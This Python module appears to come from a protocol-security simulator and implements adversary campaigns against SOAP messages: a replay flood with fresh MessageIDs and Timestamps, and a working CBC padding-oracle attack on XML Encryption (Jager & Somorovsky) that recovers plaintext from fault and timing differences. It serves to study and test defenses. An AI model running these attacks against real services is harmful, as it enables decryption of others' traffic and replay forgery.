"""The adversary's campaigns, attacks of many messages (sans-I/O, as ``adversary.py``):

* ``replay-flood``: :func:`flood` messages (the captured request with a fresh MessageID and
  Timestamp), then the captured request again;
* ``padding-oracle``: :class:`PaddingOracle` (Jager & Somorovsky, CCS 2011), a coroutine
  over the receiver's answers.

``sim/engine/attacks.py`` runs them, at most ``adversary.campaigns`` of each per
replication.
"""

from __future__ import annotations

import base64
import functools
import re
from collections import Counter
from collections.abc import Generator, Hashable, Iterator

from lxml import etree

from sim.errors import SecurityFault
from sim.protocol.adversary import Capture
from sim.wire import ns, soap, xenc
from sim.wire.xmlparse import parse
from sim.wire.xmlutil import format_time, new_uuid_urn

_PREFIX = rb"<(?:[A-Za-z_][\w.-]*:)?"
_MESSAGE_ID = re.compile(_PREFIX + rb"MessageID\b[^>]*>([^<]*)<")
_TIMESTAMP = re.compile(_PREFIX + rb"Timestamp\b[^>]*>.*?</(?:[A-Za-z_][\w.-]*:)?Timestamp>", re.S)
_CREATED = re.compile(_PREFIX + rb"Created\b[^>]*>([^<]*)<")
_EXPIRES = re.compile(_PREFIX + rb"Expires\b[^>]*>([^<]*)<")


def flood(capture: Capture, count: int, ttl: float = 300.0) -> Iterator[bytes]:
    """``count`` fresh-looking messages: the captured request, each with a MessageID of its
    own and a Timestamp created now (``capture.now``) and expiring ``ttl`` later."""
    data = capture.request
    holes: list[tuple[int, int, str]] = []
    found = _MESSAGE_ID.search(data)
    if found is not None:
        holes.append((found.start(1), found.end(1), "id"))
    timestamp = _TIMESTAMP.search(data)
    if timestamp is not None:
        for pattern, value in ((_CREATED, capture.now), (_EXPIRES, capture.now + ttl)):
            field = pattern.search(data, timestamp.start(), timestamp.end())
            if field is not None:
                holes.append((field.start(1), field.end(1), format_time(value)))
    holes.sort()
    pieces: list[bytes | str] = []
    start = 0
    for begin, end, value in holes:
        pieces += [data[start:begin], value]
        start = end
    pieces.append(data[start:])
    for _ in range(count):
        yield b"".join(
            piece
            if isinstance(piece, bytes)
            else (new_uuid_urn() if piece == "id" else piece).encode()
            for piece in pieces
        )


#: the byte the attacker puts in the plaintext positions it has recovered (plain text)
_FILLER = 0x41
_CIPHER_VALUE = ns.qname(ns.XENC, "CipherValue")
_METHOD = ns.qname(ns.XENC, "EncryptionMethod")


@functools.cache
def _parseable() -> frozenset[int]:
    """The bytes that, alone after text, leave XML well-formed: the attacker's model of the
    receiver's parser (libxml2, which it runs itself)."""
    good = set()
    for value in range(256):
        try:
            etree.fromstring(b"<w>" + bytes([_FILLER, value]) + b"</w>")
        except etree.XMLSyntaxError:
            continue
        good.add(value)
    return frozenset(good)


@functools.cache
def _masks() -> tuple[int, ...]:
    """For each value v of a byte of the chosen IV, the bits d (decryptions of the
    ciphertext byte) for which the plaintext byte d xor v is one the parser takes."""
    parseable = _parseable()
    return tuple(
        sum(1 << d for d in range(256) if (d ^ value) in parseable) for value in range(256)
    )


def answer_of(reply: bytes | None) -> tuple[str, str]:
    """What the attacker reads in a receiver's answer: the SOAP fault's code and text, or
    that it was an answer (or none, or unreadable)."""
    if reply is None:
        return ("none", "")
    try:
        fault = soap.read_fault(soap.read_envelope(reply))
    except SecurityFault:
        return ("unreadable", "")
    return ("answer", "") if fault is None else (fault.code, fault.reason)


class PaddingOracle:
    """Jager & Somorovsky's attack on XML Encryption's CBC mode ("How to break XML
    Encryption", CCS 2011), against the EncryptedData of the captured message's Body.

    Each query is the captured message with the Body's CipherValue replaced by a chosen
    initialisation vector and the first ciphertext block. The answers tell the attacker
    which last bytes of the decrypted block are valid padding (1 to the block size) and, with
    the padding set to leave only the first bytes, which of them the receiver's parser takes
    as text: the block's decryption D falls byte by byte, and the plaintext is D xor the
    original IV. :meth:`run` is a coroutine: it yields queries and is sent, for each, what the
    attacker observes of the answer (``observe``); two observations are the same answer when
    their fault code and text are equal and their times differ by at most ``resolution``.

    A receiver that answers every query alike (one fault, the same text, the same work) gives
    nothing: the attacker stops after the 256 queries of the last byte, no block recovered.
    """

    def __init__(self, captured: bytes, *, budget: int = 4096, resolution: float = 1e-6):
        self.budget = budget
        self.resolution = resolution
        self.queries = 0
        #: the first plaintext block of the Body's content, once it fell
        self.recovered: bytes | None = None
        #: the data encryption algorithm of the captured message (its URI's fragment)
        self.algorithm: str | None = None
        self._data = captured
        self._value = b""
        self.size = 0
        root = parse(captured)
        body = root.find(f"{{{etree.QName(root).namespace}}}Body")
        data = None if body is None else next(body.iter(xenc.ENCRYPTED_DATA), None)
        if data is None:
            return
        method = data.find(_METHOD)
        uri = "" if method is None else method.get("Algorithm") or ""
        self.algorithm = uri.rpartition("#")[2] or uri
        value = next(data.iter(_CIPHER_VALUE), None)
        text = "" if value is None or len(value) else (value.text or "").strip()
        try:
            cipher = base64.b64decode(text, validate=True)
        except ValueError:
            return
        size = 8 if "tripledes" in self.algorithm else 16
        if len(cipher) < 2 * size or captured.count(text.encode()) != 1:
            return
        self._value = text.encode()
        self.size = size
        self.iv = cipher[:size]
        self.block = cipher[size : 2 * size]

    @property
    def applies(self) -> bool:
        """Whether the captured message has an encrypted Body to attack."""
        return self.size > 0

    def _query(self, iv: bytearray) -> bytes:
        self.queries += 1
        forged = base64.b64encode(bytes(iv) + self.block)
        return self._data.replace(self._value, forged)

    def _same(self, a: tuple, b: tuple) -> bool:
        return a[:-1] == b[:-1] and abs(a[-1] - b[-1]) <= self.resolution

    def run(self) -> Generator[bytes, Hashable, None]:
        """Yield queries; send each one's observation (a tuple whose last item is the time
        the answer took); ``recovered`` is set when the block falls."""
        if not self.applies:
            return
        n = self.size
        iv = bytearray(self.iv)
        answers: dict[int, tuple] = {}
        for value in range(256):
            iv[n - 1] = value
            answers[value] = yield self._query(iv)
        common = Counter(answers.values()).most_common(1)[0][0]  # invalid padding
        valid = {v for v, answer in answers.items() if not self._same(answer, common)}
        last = [d for d in range(256) if {d ^ k for k in range(1, n + 1)} == valid]
        if len(last) != 1:
            return  # no padding oracle here
        decrypted = [0] * n
        decrypted[n - 1] = last[0]
        empty = answers[last[0] ^ n]  # all padding: nothing left to parse
        masks = _masks()
        for j in range(n - 1):
            iv = bytearray(self.iv)
            for i in range(j):
                iv[i] = decrypted[i] ^ _FILLER
            iv[n - 1] = decrypted[n - 1] ^ (n - 1 - j)  # padding that leaves bytes 0..j
            candidates = (1 << 256) - 1  # bit d: the byte may decrypt to d
            while candidates.bit_count() > 1:
                total = candidates.bit_count()
                value, split = max(
                    (
                        (v, min(kept, total - kept))
                        for v, mask in enumerate(masks)
                        for kept in [(candidates & mask).bit_count()]
                    ),
                    key=lambda pair: pair[1],
                )
                if split == 0 or self.queries >= self.budget:
                    return
                iv[j] = value
                answer = yield self._query(iv)
                if self._same(answer, empty):  # the receiver's parser took the byte
                    candidates &= masks[value]
                else:
                    candidates &= ~masks[value]
            if not candidates:
                return  # the answers fit no byte: not the oracle the attacker assumed
            decrypted[j] = candidates.bit_length() - 1
        self.recovered = bytes(d ^ c for d, c in zip(decrypted, self.iv, strict=True))
